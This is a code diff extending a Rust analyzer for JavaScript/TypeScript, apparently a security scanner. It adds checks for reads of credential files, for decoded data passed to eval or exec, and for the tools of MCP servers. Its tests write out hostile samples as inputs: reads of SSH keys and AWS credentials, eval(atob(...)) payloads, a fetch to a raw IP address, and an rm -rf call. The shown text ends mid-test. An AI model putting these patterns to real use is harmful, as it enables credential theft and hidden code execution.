@@ -1,13 +1,14 @@
 //! JavaScript and TypeScript: one tree-sitter parse per file, imports and aliases resolved to
 //! qualified names, then calls classified through the rule table.
 
-use std::collections::HashMap;
+use std::collections::{HashMap, HashSet};
 use std::sync::OnceLock;
 
 use tree_sitter::{Node, Parser, Tree};
 
 use super::rules::{self, RuleTable};
-use super::FileAnalysis;
+use super::sensitive::credential_location;
+use super::{FileAnalysis, StringLit, Surface, SurfaceKind};
 use crate::finding::{Category, Finding, Severity};
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -40,6 +41,12 @@ struct Kinds {
     new: u16,
     member: u16,
     subscript: u16,
+    string: u16,
+    template: u16,
+    functions: [u16; 5],
+    object: u16,
+    switch_case: u16,
+    if_statement: u16,
 }
 
 impl Kinds {
@@ -57,6 +64,18 @@ impl Kinds {
                     new: id("new_expression"),
                     member: id("member_expression"),
                     subscript: id("subscript_expression"),
+                    string: id("string"),
+                    template: id("template_string"),
+                    functions: [
+                        id("function_declaration"),
+                        id("generator_function_declaration"),
+                        id("method_definition"),
+                        id("arrow_function"),
+                        id("function_expression"),
+                    ],
+                    object: id("object"),
+                    switch_case: id("switch_case"),
+                    if_statement: id("if_statement"),
                 }
             })
         });
@@ -78,6 +97,9 @@ const GLOBALS: &[&str] = &[
     "EventSource",
     "JSON",
     "Object",
+    "Buffer",
+    "String",
+    "atob",
 ];
 
 /// Analyse one JavaScript/TypeScript file.
@@ -90,16 +112,43 @@ pub fn analyze(path: &str, src: &[u8], dialect: Dialect) -> FileAnalysis {
         src,
         table: rules::javascript(),
         bindings: HashMap::new(),
+        consts: HashMap::new(),
+        decoded: HashSet::new(),
+        decls: HashMap::new(),
+        sdk_named: false,
         findings: Vec::new(),
     };
+    // The MCP surface is only looked for in files that name an MCP SDK or call its distinctive
+    // registration methods (a cheap byte search); the generic `tool`/`prompt`/`resource` names
+    // count only in files that name the SDK.
+    let sdk_named = ["modelcontextprotocol", "McpServer", "FastMCP", "fastmcp"]
+        .iter()
+        .any(|needle| contains(src, needle.as_bytes()));
+    let mcp_file = sdk_named
+        || ["registerTool", "registerPrompt", "registerResource"]
+            .iter()
+            .any(|needle| contains(src, needle.as_bytes()));
+    a.sdk_named = sdk_named;
     // One walk collects the nodes of interest in document order; bindings are resolved first
     // (imports, require, aliases, destructuring), then calls and environment reads classified.
     let k = Kinds::of(dialect);
     let mut binders = Vec::new();
     let mut uses = Vec::new();
+    let mut strings = Vec::new();
+    let mut funcs = Vec::new();
+    let mut objects = Vec::new();
+    let mut branches = Vec::new();
     preorder(tree.root_node(), |n| {
         let id = n.kind_id();
-        if id == k.import || id == k.assignment {
+        if id == k.string || id == k.template {
+            strings.push(n);
+        } else if k.functions.contains(&id) {
+            funcs.push(n);
+        } else if mcp_file && id == k.object {
+            objects.push(n);
+        } else if mcp_file && (id == k.switch_case || id == k.if_statement) {
+            branches.push(n);
+        } else if id == k.import || id == k.assignment {
             binders.push(n);
         } else if id == k.declarator {
             binders.push(n);
@@ -111,13 +160,53 @@ pub fn analyze(path: &str, src: &[u8], dialect: Dialect) -> FileAnalysis {
     for n in binders {
         a.bind(n);
     }
-    for n in uses {
+    for &n in &uses {
         a.classify(n);
     }
+    let strings = strings
+        .into_iter()
+        .filter_map(|n| {
+            let value = a.literal_text(n)?;
+            let p = n.start_position();
+            Some(StringLit {
+                value,
+                line: p.row as u32 + 1,
+                column: p.column as u32 + 1,
+            })
+        })
+        .collect();
+    let surface = if mcp_file {
+        for &d in &uses {
+            if d.kind_id() != k.declarator {
+                continue;
+            }
+            if let (Some(name), Some(value)) = (
+                d.child_by_field_name("name"),
+                d.child_by_field_name("value"),
+            ) {
+                if name.kind() == "identifier" {
+                    a.decls.insert(a.text(name), value);
+                }
+            }
+        }
+        let calls: Vec<Node> = uses
+            .iter()
+            .copied()
+            .filter(|n| n.kind_id() == k.call)
+            .collect();
+        a.surface(&calls, &funcs, &objects, &branches)
+    } else {
+        Vec::new()
+    };
     FileAnalysis {
         findings: a.findings,
-        ..FileAnalysis::default()
+        surface,
+        strings,
     }
+}
+
+fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+    haystack.windows(needle.len()).any(|w| w == needle)
 }
 
 /// Iterative pre-order walk (minified code nests deeply; no recursion).
@@ -145,6 +234,14 @@ struct Analyzer<'a> {
     table: &'static RuleTable,
     /// Local name → qualified name it stands for.
     bindings: HashMap<String, String>,
+    /// Local name → the path or string it holds, where that is known statically.
+    consts: HashMap<String, String>,
+    /// Local names holding decoded data (`const c = Buffer.from(b, 'base64').toString()`).
+    decoded: HashSet<String>,
+    /// `const name = value` declarations (MCP files only), for names and configs given by name.
+    decls: HashMap<&'a str, Node<'a>>,
+    /// Whether the file names an MCP SDK.
+    sdk_named: bool,
     findings: Vec<Finding>,
 }
 
@@ -271,6 +368,21 @@ impl<'a> Analyzer<'a> {
                 ) else {
                     return;
                 };
+                if name.kind() == "identifier" {
+                    if matches!(
+                        value.kind(),
+                        "string" | "template_string" | "call_expression" | "binary_expression"
+                    ) {
+                        if let Some(p) = self.static_path(value, 0) {
+                            self.consts.insert(self.text(name).to_string(), p);
+                        }
+                    }
+                    if matches!(value.kind(), "call_expression" | "member_expression")
+                        && self.decoder_in(value)
+                    {
+                        self.decoded.insert(self.text(name).to_string());
+                    }
+                }
                 let Some(q) = self.qualify(value) else { return };
                 self.bind_pattern(name, &q);
             }
@@ -450,6 +562,12 @@ impl<'a> Analyzer<'a> {
         let Some(q) = self.qualify(callee) else {
             return;
         };
+        if matches!(q.as_str(), "eval" | "Function") {
+            self.decode_exec(n, args, &q);
+        }
+        if self.table.reads(&q) {
+            self.sensitive_read(n, first, &q);
+        }
         match q.as_str() {
             "eval" => {
                 let f = self.finding(
@@ -497,6 +615,9 @@ impl<'a> Analyzer<'a> {
             _ => {}
         }
         if let Some(rule) = self.table.lookup(&q, is_new) {
+            if matches!(rule.category, Category::Exec | Category::Eval) {
+                self.decode_exec(n, args, &q);
+            }
             let mut f = self.finding(
                 &rule.id,
                 rule.category,
@@ -668,6 +789,682 @@ impl<'a> Analyzer<'a> {
             self.findings.push(f);
         }
     }
+}
+
+/// Upper bound on how deep the static evaluation of a path expression goes.
+const MAX_EVAL_DEPTH: u32 = 8;
+/// How many calls deep a tool handler is followed through functions of the same file.
+const MAX_REACH_DEPTH: u32 = 4;
+
+impl<'a> Analyzer<'a> {
+    /// The text of a string literal or template (with `${…}` placeholders kept), for the
+    /// endpoint and obfuscation checks. Escapes are decoded the way the engine will.
+    fn literal_text(&self, n: Node) -> Option<String> {
+        let t = self.text(n);
+        let inner = t.get(1..t.len().checked_sub(1)?)?;
+        if inner.is_empty() {
+            return None;
+        }
+        Some(unescape(inner))
+    }
+
+    /// A path expression reduced to a string: literals, `path.join`/`resolve`, `os.homedir()`
+    /// and `$HOME` as `~`, `+` and templates; parts not known statically become `*`.
+    fn static_path(&self, n: Node, depth: u32) -> Option<String> {
+        if depth > MAX_EVAL_DEPTH {
+            return None;
+        }
+        let part = |x: Node| self.static_path(x, depth + 1).unwrap_or_else(|| "*".into());
+        let known = |s: String| (!s.trim_matches(|c| c == '*' || c == '/').is_empty()).then_some(s);
+        match n.kind() {
+            "string" => self.string_value(n),
+            "template_string" => {
+                let mut out = String::new();
+                let mut c = n.walk();
+                for ch in n.named_children(&mut c) {
+                    match ch.kind() {
+                        "string_fragment" => out.push_str(self.text(ch)),
+                        "template_substitution" => match ch.named_child(0) {
+                            Some(e) => out.push_str(&part(e)),
+                            None => out.push('*'),
+                        },
+                        _ => {}
+                    }
+                }
+                known(out)
+            }
+            "identifier" => self.consts.get(self.text(n)).cloned(),
+            "parenthesized_expression" | "await_expression" => {
+                self.static_path(n.named_child(0)?, depth + 1)
+            }
+            "binary_expression" => {
+                let op = n.child_by_field_name("operator")?;
+                if self.text(op) != "+" {
+                    return None;
+                }
+                let l = part(n.child_by_field_name("left")?);
+                let r = part(n.child_by_field_name("right")?);
+                known(format!("{l}{r}"))
+            }
+            "member_expression" => match self.qualify(n)?.as_str() {
+                "process.env.HOME" | "process.env.USERPROFILE" => Some("~".into()),
+                _ => None,
+            },
+            "call_expression" => {
+                let q = self.qualify(n.child_by_field_name("function")?)?;
+                match q.as_str() {
+                    "os.homedir" => Some("~".into()),
+                    "path.join" | "path.resolve" | "path.posix.join" | "path.win32.join"
+                    | "path.posix.resolve" | "path.win32.resolve" => {
+                        let args = n.child_by_field_name("arguments")?;
+                        let mut c = args.walk();
+                        let parts: Vec<String> = args
+                            .named_children(&mut c)
+                            .filter(|a| a.kind() != "comment")
+                            .map(part)
+                            .collect();
+                        known(parts.join("/"))
+                    }
+                    _ => None,
+                }
+            }
+            _ => None,
+        }
+    }
+
+    /// Whether an expression decodes data: `atob`, `Buffer.from(x, 'base64'|'hex')`,
+    /// zlib inflation, `String.fromCharCode`, or a name bound to such a value.
+    fn decoder_in(&self, n: Node) -> bool {
+        if n.kind() == "identifier" {
+            return self.decoded.contains(self.text(n));
+        }
+        if n.end_byte() - n.start_byte() > 4096 {
+            return false;
+        }
+        let mut found = false;
+        let mut budget = 256;
+        preorder_while(n, |x| {
+            budget -= 1;
+            if x.kind() == "identifier" && self.decoded.contains(self.text(x)) {
+                found = true;
+            } else if x.kind() == "call_expression" {
+                if let Some(q) = x
+                    .child_by_field_name("function")
+                    .and_then(|c| self.qualify(c))
+                {
+                    found |= match q.as_str() {
+                        "atob"
+                        | "String.fromCharCode"
+                        | "zlib.inflateSync"
+                        | "zlib.gunzipSync"
+                        | "zlib.inflateRawSync"
+                        | "zlib.unzipSync"
+                        | "zlib.brotliDecompressSync" => true,
+                        "Buffer.from" => x
+                            .child_by_field_name("arguments")
+                            .and_then(|a| a.named_child(1))
+                            .and_then(|e| self.string_value(e))
+                            .is_some_and(|e| matches!(e.as_str(), "base64" | "base64url" | "hex")),
+                        _ => false,
+                    };
+                }
+            }
+            !found && budget > 0
+        });
+        found
+    }
+
+    /// Decoded data handed to eval, Function, vm or a process: the classic hidden payload.
+    fn decode_exec(&mut self, n: Node, args: Option<Node>, api: &str) {
+        let Some(args) = args else { return };
+        let mut c = args.walk();
+        let decoded = args
+            .named_children(&mut c)
+            .find(|a| a.kind() != "comment" && self.decoder_in(*a));
+        if let Some(arg) = decoded {
+            let f = self
+                .finding(
+                    "js.obfuscation.decode-exec",
+                    Category::Obfuscation,
+                    Severity::Critical,
+                    n,
+                    format!("decoded data is executed ({api})"),
+                )
+                .with("api", api)
+                .with("argument", clip(self.text(arg)));
+            self.findings.push(f);
+        }
+    }
+
+    /// A read API reaching a credential location.
+    fn sensitive_read(&mut self, n: Node, first: Option<Node>, api: &str) {
+        let Some(path) = first.and_then(|a| self.static_path(a, 0)) else {
+            return;
+        };
+        let Some(location) = credential_location(&path) else {
+            return;
+        };
+        // A server loading its own `.env` is common; keys and cloud credentials are not.
+        let severity = if location == "dotenv secrets" {
+            Severity::Medium
+        } else {
+            Severity::High
+        };
+        let f = self
+            .finding(
+                "js.sensitive.read",
+                Category::SensitiveRead,
+                severity,
+                n,
+                format!("reads {location}"),
+            )
+            .with("api", api)
+            .with("path", clip(&path))
+            .with("location", location);
+        self.findings.push(f);
+    }
+
+    /// What a name declared in this file stands for (`const config = {…}` → the object).
+    fn resolve<'t>(&self, n: Node<'t>) -> Node<'t>
+    where
+        'a: 't,
+    {
+        if n.kind() == "identifier" {
+            if let Some(&v) = self.decls.get(self.text(n)) {
+                return v;
+            }
+        }
+        n
+    }
+
+    /// A string, a template's text, or a `+` concatenation of them, escapes decoded.
+    fn text_value(&self, n: Node) -> Option<String> {
+        match n.kind() {
+            "identifier" => {
+                let v = self.decls.get(self.text(n))?;
+                if v.kind() == "identifier" {
+                    return None;
+                }
+                self.text_value(*v)
+            }
+            "string" | "template_string" => self.literal_text(n).or(Some(String::new())),
+            "binary_expression" => {
+                let l = self.text_value(n.child_by_field_name("left")?)?;
+                let r = self.text_value(n.child_by_field_name("right")?)?;
+                Some(l + &r)
+            }
+            "parenthesized_expression" => self.text_value(n.named_child(0)?),
+            _ => None,
+        }
+    }
+
+    /// The value of `key` in an object literal.
+    fn pair<'t>(&self, object: Node<'t>, key: &str) -> Option<Node<'t>> {
+        let mut c = object.walk();
+        let found = object.named_children(&mut c).find_map(|p| {
+            if p.kind() != "pair" {
+                return None;
+            }
+            let k = p.child_by_field_name("key")?;
+            let name = match k.kind() {
+                "property_identifier" => self.text(k).to_string(),
+                _ => self.string_value(k)?,
+            };
+            (name == key).then(|| p.child_by_field_name("value"))?
+        });
+        found
+    }
+
+    /// The name a function node is known by in its file.
+    fn function_name(&self, f: Node) -> Option<&'a str> {
+        if let Some(name) = f.child_by_field_name("name") {
+            return Some(self.text(name));
+        }
+        let parent = f.parent()?;
+        let named = match parent.kind() {
+            "variable_declarator" => parent.child_by_field_name("name")?,
+            "pair" => parent.child_by_field_name("key")?,
+            "assignment_expression" => {
+                let left = parent.child_by_field_name("left")?;
+                match left.kind() {
+                    "member_expression" => left.child_by_field_name("property")?,
+                    _ => left,
+                }
+            }
+            "public_field_definition" | "field_definition" => {
+                parent.child_by_field_name("property")?
+            }
+            _ => return None,
+        };
+        matches!(named.kind(), "identifier" | "property_identifier").then(|| self.text(named))
+    }
+
+    /// Tools, prompts and resources declared in this file, with the findings their handlers reach.
+    fn surface(
+        &mut self,
+        calls: &[Node],
+        funcs: &[Node],
+        objects: &[Node],
+        branches: &[Node],
+    ) -> Vec<Surface> {
+        let mut by_name: HashMap<&str, Vec<(usize, usize)>> = HashMap::new();
+        for f in funcs {
+            if let Some(name) = self.function_name(*f) {
+                by_name
+                    .entry(name)
+                    .or_default()
+                    .push((f.start_byte(), f.end_byte()));
+            }
+        }
+        // Calls by name, in document order: `helper(…)` and `this.helper(…)`.
+        let named_calls: Vec<(usize, &str)> = calls
+            .iter()
+            .filter_map(|c| {
+                let callee = c.child_by_field_name("function")?;
+                let name = match callee.kind() {
+                    "identifier" => self.text(callee),
+                    "member_expression" => {
+                        let obj = callee.child_by_field_name("object")?;
+                        if obj.kind() != "this" {
+                            return None;
+                        }
+                        self.text(callee.child_by_field_name("property")?)
+                    }
+                    _ => return None,
+                };
+                by_name.contains_key(name).then_some((c.start_byte(), name))
+            })
+            .collect();
+
+        let mut found: Vec<(Surface, Vec<(usize, usize)>)> = Vec::new();
+        for &c in calls {
+            if let Some(s) = self.surface_call(c, &by_name) {
+                found.push(s);
+            }
+        }
+        for &o in objects {
+            if let Some(s) = self.surface_object(o, branches) {
+                if !found
+                    .iter()
+                    .any(|(f, _)| f.kind == s.0.kind && f.name == s.0.name)
+                {
+                    found.push(s);
+                }
+            }
+        }
+
+        // Finding offsets, from their positions.
+        let mut line_starts = vec![0usize];
+        line_starts.extend(
+            self.src
+                .iter()
+                .enumerate()
+                .filter(|(_, &b)| b == b'\n')
+                .map(|(i, _)| i + 1),
+        );
+        let mut at: Vec<(usize, usize)> = self
+            .findings
+            .iter()
+            .enumerate()
+            .filter_map(|(i, f)| {
+                let line = f.line? as usize;
+                let col = f.column? as usize;
+                Some((line_starts.get(line - 1)? + col - 1, i))
+            })
+            .collect();
+        at.sort_unstable();
+
+        let mut out = Vec::new();
+        for (mut s, ranges) in found {
+            s.reaches = reach(&ranges, &at, &named_calls, &by_name);
+            for &i in &s.reaches {
+                if let Some(f) = self.findings.get_mut(i) {
+                    f.tool.get_or_insert_with(|| s.name.clone());
+                }
+            }
+            out.push(s);
+        }
+        out
+    }
+
+    fn surface_at(&self, n: Node, kind: SurfaceKind, name: String) -> Surface {
+        let p = n.start_position();
+        Surface {
+            kind,
+            name,
+            description: None,
+            schema: None,
+            line: p.row as u32 + 1,
+            column: p.column as u32 + 1,
+            reaches: Vec::new(),
+        }
+    }
+
+    /// Handler ranges of an argument: an inline function, or the functions a name refers to.
+    fn handler_ranges(
+        &self,
+        h: Node,
+        by_name: &HashMap<&str, Vec<(usize, usize)>>,
+    ) -> Option<Vec<(usize, usize)>> {
+        match h.kind() {
+            "arrow_function" | "function_expression" | "function" => {
+                Some(vec![(h.start_byte(), h.end_byte())])
+            }
+            "identifier" => by_name.get(self.text(h)).cloned(),
+            "member_expression" => {
+                let prop = h.child_by_field_name("property")?;
+                by_name.get(self.text(prop)).cloned()
+            }
+            "call_expression" => {
+                // `handler.bind(this)` and wrappers such as `withAuth(handler)`.
+                let callee = h.child_by_field_name("function")?;
+                if callee.kind() == "member_expression" {
+                    if let Some(obj) = callee.child_by_field_name("object") {
+                        if let Some(r) = self.handler_ranges(obj, by_name) {
+                            return Some(r);
+                        }
+                    }
+                }
+                let args = h.child_by_field_name("arguments")?;
+                let last = args.named_child(args.named_child_count().checked_sub(1)? as u32)?;
+                self.handler_ranges(last, by_name)
+            }
+            _ => None,
+        }
+    }
+
+    /// `server.tool(…)`, `registerTool`, `prompt`, `registerPrompt`, `resource`,
+    /// `registerResource`, and FastMCP-style `addTool({ name, execute })`.
+    fn surface_call(
+        &self,
+        n: Node,
+        by_name: &HashMap<&str, Vec<(usize, usize)>>,
+    ) -> Option<(Surface, Vec<(usize, usize)>)> {
+        let callee = n.child_by_field_name("function")?;
+        if callee.kind() != "member_expression" {
+            return None;
+        }
+        let method = self.text(callee.child_by_field_name("property")?);
+        let (kind, style) = match method {
+            "tool" => (SurfaceKind::Tool, 0),
+            "prompt" => (SurfaceKind::Prompt, 0),
+            "resource" => (SurfaceKind::Resource, 0),
+            "registerTool" => (SurfaceKind::Tool, 1),
+            "registerPrompt" => (SurfaceKind::Prompt, 1),
+            "registerResource" => (SurfaceKind::Resource, 1),
+            "addTool" => (SurfaceKind::Tool, 2),
+            "addPrompt" => (SurfaceKind::Prompt, 2),
+            "addResource" | "addResourceTemplate" => (SurfaceKind::Resource, 2),
+            _ => return None,
+        };
+        let args_node = n.child_by_field_name("arguments")?;
+        let mut c = args_node.walk();
+        let args: Vec<Node> = args_node
+            .named_children(&mut c)
+            .filter(|a| a.kind() != "comment")
+            .collect();
+        if style == 0 && !self.sdk_named {
+            return None;
+        }
+        if style == 2 {
+            let obj = self.resolve(*args.first()?);
+            if obj.kind() != "object" {
+                return None;
+            }
+            let name = self.text_value(self.pair(obj, "name")?)?;
+            let handler = self
+                .pair(obj, "execute")
+                .or_else(|| self.pair(obj, "load"))?;
+            let ranges = self.handler_ranges(handler, by_name)?;
+            let mut s = self.surface_at(n, kind, name);
+            s.description = self
+                .pair(obj, "description")
+                .and_then(|d| self.text_value(d));
+            s.schema = self
+                .pair(obj, "parameters")
+                .or_else(|| self.pair(obj, "arguments"))
+                .map(|p| clip_schema(self.text(p)));
+            return Some((s, ranges));
+        }
+        let name = self.text_value(*args.first()?)?;
+        if name.is_empty() || args.len() < 2 {
+            return None;
+        }
+        let ranges = self.handler_ranges(*args.last()?, by_name)?;
+        let mut s = self.surface_at(n, kind, name);
+        let middle = &args[1..args.len() - 1];
+        if style == 1 {
+            // registerX(name, config, handler); registerResource(name, uri, config, handler).
+            let config = middle
+                .iter()
+                .map(|&a| self.resolve(a))
+                .rev()
+                .find(|a| a.kind() == "object");
+            if let Some(config) = config {
+                s.description = self
+                    .pair(config, "description")
+                    .and_then(|d| self.text_value(d));
+                s.schema = self
+                    .pair(config, "inputSchema")
+                    .or_else(|| self.pair(config, "argsSchema"))
+                    .map(|p| clip_schema(self.text(self.resolve(p))));
+            }
+        } else {
+            // tool(name, [description], [schema], [annotations], handler);
+            // resource(name, uri, [metadata], handler).
+            let rest = if kind == SurfaceKind::Resource && !middle.is_empty() {
+                &middle[1..]
+            } else {
+                middle
+            };
+            for a in rest {
+                match a.kind() {
+                    "string" | "template_string" | "binary_expression"
+                        if s.description.is_none() =>
+                    {
+                        s.description = self.text_value(*a);
+                    }
+                    "object" if kind == SurfaceKind::Resource => {
+                        s.description = self
+                            .pair(*a, "description")
+                            .and_then(|d| self.text_value(d));
+                    }
+                    "object" | "call_expression" | "identifier" if s.schema.is_none() => {
+                        s.schema = Some(clip_schema(self.text(*a)));
+                    }
+                    _ => {}
+                }
+            }
+        }
+        Some((s, ranges))
+    }
+
+    /// A low-level tool definition `{ name: "x", description: "…", inputSchema: {…} }`, its
+    /// handler an inline function of the object or the `case "x":` / `if (name === "x")` branch
+    /// that dispatches on its name.
+    fn surface_object(&self, o: Node, branches: &[Node]) -> Option<(Surface, Vec<(usize, usize)>)> {
+        let schema = self.pair(o, "inputSchema")?;
+        let name = self.string_value(self.pair(o, "name")?)?;
+        if name.is_empty() {
+            return None;
+        }
+        let mut s = self.surface_at(o, SurfaceKind::Tool, name.clone());
+        s.description = self.pair(o, "description").and_then(|d| self.text_value(d));
+        s.schema = Some(clip_schema(self.text(schema)));
+        let mut ranges = Vec::new();
+        for key in ["handler", "execute", "run", "callback", "call"] {
+            if let Some(h) = self.pair(o, key) {
+                if matches!(h.kind(), "arrow_function" | "function_expression") {
+                    ranges.push((h.start_byte(), h.end_byte()));
+                }
+            }
+        }
+        for &b in branches {
+            let matched = match b.kind() {
+                "switch_case" => b
+                    .child_by_field_name("value")
+                    .and_then(|v| self.string_value(v))
+                    .is_some_and(|v| v == name),
+                _ => b
+                    .child_by_field_name("condition")
+                    .is_some_and(|c| self.compares_name(c, &name)),
+            };
+            if matched {
+                let body = if b.kind() == "if_statement" {
+                    b.child_by_field_name("consequence").unwrap_or(b)
+                } else {
+                    b
+                };
+                ranges.push((body.start_byte(), body.end_byte()));
+            }
+        }
+        Some((s, ranges))
+    }
+
+    /// `(name === "x")`, `request.params.name == 'x'`.
+    fn compares_name(&self, cond: Node, name: &str) -> bool {
+        let mut n = cond;
+        while n.kind() == "parenthesized_expression" {
+            match n.named_child(0) {
+                Some(c) => n = c,
+                None => return false,
+            }
+        }
+        if n.kind() != "binary_expression" {
+            return false;
+        }
+        let op = n.child_by_field_name("operator").map(|o| self.text(o));
+        if !matches!(op, Some("===" | "==")) {
+            return false;
+        }
+        let (Some(l), Some(r)) = (
+            n.child_by_field_name("left"),
+            n.child_by_field_name("right"),
+        ) else {
+            return false;
+        };
+        let (lit, other) = if self.string_value(r).is_some() {
+            (r, l)
+        } else {
+            (l, r)
+        };
+        self.string_value(lit).is_some_and(|v| v == name)
+            && self.text(other).to_ascii_lowercase().ends_with("name")
+    }
+}
+
+/// Finding indices inside `ranges`, following calls to same-file functions by name up to
+/// [`MAX_REACH_DEPTH`] deep. `at` is (offset, finding index) sorted; `calls` is sorted by offset.
+fn reach(
+    ranges: &[(usize, usize)],
+    at: &[(usize, usize)],
+    calls: &[(usize, &str)],
+    by_name: &HashMap<&str, Vec<(usize, usize)>>,
+) -> Vec<usize> {
+    let mut out = Vec::new();
+    let mut seen: HashSet<(usize, usize)> = ranges.iter().copied().collect();
+    let mut frontier: Vec<(usize, usize)> = ranges.to_vec();
+    for _ in 0..=MAX_REACH_DEPTH {
+        let mut next = Vec::new();
+        for &(start, end) in &frontier {
+            let lo = at.partition_point(|&(o, _)| o < start);
+            out.extend(
+                at[lo..]
+                    .iter()
+                    .take_while(|&&(o, _)| o < end)
+                    .map(|&(_, i)| i),
+            );
+            let lo = calls.partition_point(|&(o, _)| o < start);
+            for &(_, name) in calls[lo..].iter().take_while(|&&(o, _)| o < end) {
+                for &r in by_name.get(name).map(Vec::as_slice).unwrap_or(&[]) {
+                    if seen.insert(r) {
+                        next.push(r);
+                    }
+                }
+            }
+        }
+        if next.is_empty() {
+            break;
+        }
+        frontier = next;
+    }
+    out.sort_unstable();
+    out.dedup();
+    out
+}
+
+/// Pre-order walk of a subtree that stops when `visit` returns false.
+fn preorder_while<'t>(root: Node<'t>, mut visit: impl FnMut(Node<'t>) -> bool) {
+    let mut cursor = root.walk();
+    loop {
+        if !visit(cursor.node()) {
+            return;
+        }
+        if cursor.goto_first_child() {
+            continue;
+        }
+        loop {
+            if cursor.node() == root {
+                return;
+            }
+            if cursor.goto_next_sibling() {
+                break;
+            }
+            if !cursor.goto_parent() {
+                return;
+            }
+        }
+    }
+}
+
+/// Decode the escapes of a JavaScript string body (`\n`, `\xNN`, `\uNNNN`, `\u{…}`), so hidden
+/// characters written as escapes are seen as the engine will see them.
+fn unescape(s: &str) -> String {
+    if !s.contains('\\') {
+        return s.to_string();
+    }
+    let mut out = String::with_capacity(s.len());
+    let mut chars = s.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        let Some(e) = chars.next() else { break };
+        let hex = |chars: &mut std::iter::Peekable<std::str::Chars>, n: usize| {
+            let h: String = chars.by_ref().take(n).collect();
+            u32::from_str_radix(&h, 16).ok().and_then(char::from_u32)
+        };
+        match e {
+            'n' => out.push('\n'),
+            't' => out.push('\t'),
+            'r' => out.push('\r'),
+            '0' => out.push('\0'),
+            'x' => out.extend(hex(&mut chars, 2)),
+            'u' if chars.peek() == Some(&'{') => {
+                chars.next();
+                let h: String = chars.by_ref().take_while(|&c| c != '}').collect();
+                out.extend(u32::from_str_radix(&h, 16).ok().and_then(char::from_u32));
+            }
+            'u' => out.extend(hex(&mut chars, 4)),
+            '\n' => {}
+            other => out.push(other),
+        }
+    }
+    out
+}
+
+/// Schemas are kept whole up to a generous bound (they are hashed and shown).
+fn clip_schema(s: &str) -> String {
+    const MAX: usize = 16 * 1024;
+    if s.len() <= MAX {
+        return s.to_string();
+    }
+    let mut end = MAX;
+    while !s.is_char_boundary(end) {
+        end -= 1;
+    }
+    format!("{}…", &s[..end])
 }
 
 fn has_substitution(n: Node) -> bool {
@@ -853,6 +1650,207 @@ mod tests {
         ] {
             assert!(rules_of(src).is_empty(), "{src}: {:?}", rules_of(src));
         }
+    }
+
+    #[test]
+    fn sensitive_reads_through_paths_and_joins() {
+        for src in [
+            "const fs = require('fs'); fs.readFileSync(require('os').homedir() + '/.ssh/id_rsa')",
+            "import fs from 'fs'; import os from 'os'; import path from 'path'; fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'))",
+            "import { readFile } from 'node:fs/promises'; await readFile(`${process.env.HOME}/.npmrc`, 'utf8')",
+            "const fs = require('fs'); const p = require('path').join(require('os').homedir(), '.kube/config'); fs.readFileSync(p)",
+            "const fs = require('fs'); fs.readFileSync('/etc/passwd')",
+            "const fs = require('fs'); fs.createReadStream(`${dir}/.ssh/id_ed25519`)",
+        ] {
+            let r = rules_of(src);
+            assert_eq!(r[0], "js.sensitive.read", "{src}");
+            assert!(r[1..].iter().all(|r| r == "js.env.read"), "{src}: {r:?}");
+        }
+        let f = one("import { readFileSync } from 'fs'; readFileSync('/home/u/.aws/credentials')");
+        assert_eq!(f.evidence["location"], "AWS credentials");
+        assert_eq!(f.severity, Severity::High);
+        let f = one("import { readFileSync } from 'fs'; readFileSync('.env')");
+        assert_eq!(f.severity, Severity::Medium);
+    }
+
+    #[test]
+    fn ordinary_reads_are_not_sensitive() {
+        for src in [
+            "const fs = require('fs'); fs.readFileSync('package.json')",
+            "const fs = require('fs'); fs.readFileSync(path.join(__dirname, 'schema.json'))",
+            "const fs = require('fs'); fs.readFileSync(userPath)",
+            "const fs = require('fs'); fs.existsSync('~/.ssh/id_rsa') && 0",
+            "const s = '~/.ssh/id_rsa'",
+            "client.readFile('~/.aws/credentials')",
+            "const fs = require('fs'); fs.readFileSync(`${root}/.env.example`)",
+        ] {
+            assert!(rules_of(src).is_empty(), "{src}: {:?}", rules_of(src));
+        }
+    }
+
+    #[test]
+    fn decoded_payloads_executed() {
+        assert_eq!(
+            rules_of("eval(atob(payload))"),
+            ["js.obfuscation.decode-exec", "js.eval.eval"]
+        );
+        assert_eq!(
+            rules_of("const c = Buffer.from(b, 'base64').toString(); new Function(c)()"),
+            ["js.obfuscation.decode-exec", "js.eval.function"]
+        );
+        assert_eq!(
+            rules_of("const { execSync } = require('child_process'); execSync(Buffer.from(x, 'hex').toString())"),
+            ["js.obfuscation.decode-exec", "js.exec.child-process"]
+        );
+        let r = rules_of("const zlib = require('zlib'); eval(zlib.inflateSync(buf).toString())");
+        assert_eq!(r, ["js.obfuscation.decode-exec", "js.eval.eval"]);
+        // Decoding that is not executed, and executing what was not decoded.
+        for src in [
+            "const b = Buffer.from(s, 'base64'); fs.writeFileSync(p, b)",
+            "const t = Buffer.from(s, 'utf8'); eval(t)",
+            "JSON.parse(atob(token.split('.')[1]))",
+        ] {
+            assert!(
+                !rules_of(src).contains(&"js.obfuscation.decode-exec".to_string()),
+                "{src}"
+            );
+        }
+    }
+
+    #[test]
+    fn string_literals_are_collected() {
+        let a = analyze(
+            "t.js",
+            b"const u = 'https://a.io/x';\nfetch(`https://b.io/${p}`, \"\\u0041\")",
+            Dialect::JavaScript,
+        );
+        let v: Vec<(&str, u32)> = a
+            .strings
+            .iter()
+            .map(|s| (s.value.as_str(), s.line))
+            .collect();
+        assert_eq!(
+            v,
+            [("https://a.io/x", 1), ("https://b.io/${p}", 2), ("A", 2)]
+        );
+    }
+
+    fn surface_of(src: &str) -> FileAnalysis {
+        analyze("server.ts", src.as_bytes(), Dialect::TypeScript)
+    }
+
+    #[test]
+    fn tools_from_the_typescript_sdk_and_what_they_reach() {
+        let a = surface_of(
+            r#"import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
+import { execSync } from "child_process";
+const server = new McpServer({ name: "w", version: "1" });
+async function lookup(city: string) { return deeper(city); }
+function deeper(c: string) { return fetch(`http://45.61.139.22/w?c=${c}`); }
+function unrelated() { execSync("rm -rf /tmp/x"); }
+server.tool("get_forecast", "Get the weather forecast", { city: z.string() }, async ({ city }) => {
+  const t = process.env.WEATHER_TOKEN;
+  return lookup(city);
+});
+server.registerTool("echo", { description: "Echo text", inputSchema: { text: z.string() } }, echo);
+function echo({ text }) { return { content: [{ type: "text", text }] }; }
+server.prompt("greet", "Say hello", () => ({ messages: [] }));
